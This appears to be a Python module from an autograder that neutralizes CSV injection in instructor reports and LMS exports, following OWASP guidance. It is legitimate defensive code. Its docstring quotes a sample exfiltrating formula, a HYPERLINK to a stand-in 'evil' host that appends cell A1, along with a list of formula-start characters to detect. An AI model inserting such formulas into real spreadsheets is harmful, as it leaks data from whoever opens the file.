"""CSV files a spreadsheet can open safely: every CSV the instructor's commands write goes through here.

A student controls text that reaches our CSV files: their id (the folder name in
``submitted/``), their name and email in a roster, and reasons or flags quoted from their
submission. A cell such as ``=HYPERLINK("http://evil/?"&A1, "click")``, ``@SUM(1+1)`` or ``+1-1``
is a formula to Excel, LibreOffice and Google Sheets ("CSV injection", OWASP). Following
OWASP's "CSV Injection" page (https://owasp.org/www-community/attacks/CSV_Injection):

* a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab (0x09) or a carriage return (0x0D)
  gets a single quote in front (``'=HYPERLINK(...)``), so the spreadsheet reads it as text; a
  line feed (0x0A) is treated the same, since a cell may start a new line inside quotes;
* every cell is wrapped in double quotes, and double quotes inside it are doubled
  (:data:`csv.QUOTE_ALL`), so that no separator in a value starts a new cell.

Numbers we compute (points, shares) are written as they are: they never start with one of
those characters (scores are never negative). Used by ``report.csv``
(:mod:`autograder.tools.report`), the LMS exports (:mod:`autograder.tools.export`) and
``similarity.csv`` (:mod:`autograder.tools.similarity`).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from typing import IO, Any

#: The first characters that make a spreadsheet read a cell as a formula (OWASP), plus the line
#: feed, which a quoted cell may begin with.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def neutralize(value: Any) -> str:
    """One CSV cell as text a spreadsheet will not evaluate.

    Parameters
    ----------
    value : str, int, float or None
        The cell. ``None`` becomes ``""``; numbers (``bool`` excluded) are written with ``str``.

    Returns
    -------
    str
        ``value`` as a string, with a single quote in front when it starts with one of
        :data:`FORMULA_START` (``"=1+1"`` -> ``"'=1+1"``); unchanged otherwise.

    Raises
    ------
    TypeError
        If ``value`` is not a string, a number or None (a bug: a cell must be text).
    """
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return str(value)
    if not isinstance(value, str):
        raise TypeError(f"value must be a str, a number or None, got {type(value).__name__}")
    return "'" + value if value.startswith(FORMULA_START) else value


class SafeWriter:
    """A :func:`csv.writer` that neutralizes every cell and quotes them all.

    Parameters
    ----------
    handle : text file
        Opened with ``newline=""`` (as :mod:`csv` requires).
    """

    def __init__(self, handle: IO[str]):
        self._writer = csv.writer(handle, quoting=csv.QUOTE_ALL)

    def writerow(self, row: Iterable[Any]) -> None:
        """Write one row of cells (see :func:`neutralize`)."""
        self._writer.writerow([neutralize(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Write several rows."""
        for row in rows:
            self.writerow(row)


def write_dicts(handle: IO[str], fields: list[str], rows: Iterable[Mapping[str, Any]]) -> None:
    """Write a header of ``fields`` and one row per mapping (missing keys are empty cells).

    Raises
    ------
    ValueError
        If a row has a key that is not in ``fields``.
    """
    writer = SafeWriter(handle)
    writer.writerow(fields)
    for row in rows:
        extra = set(row) - set(fields)
        if extra:
            raise ValueError(f"row has keys outside the header: {sorted(extra)}")
        writer.writerow([row.get(f, "") for f in fields])
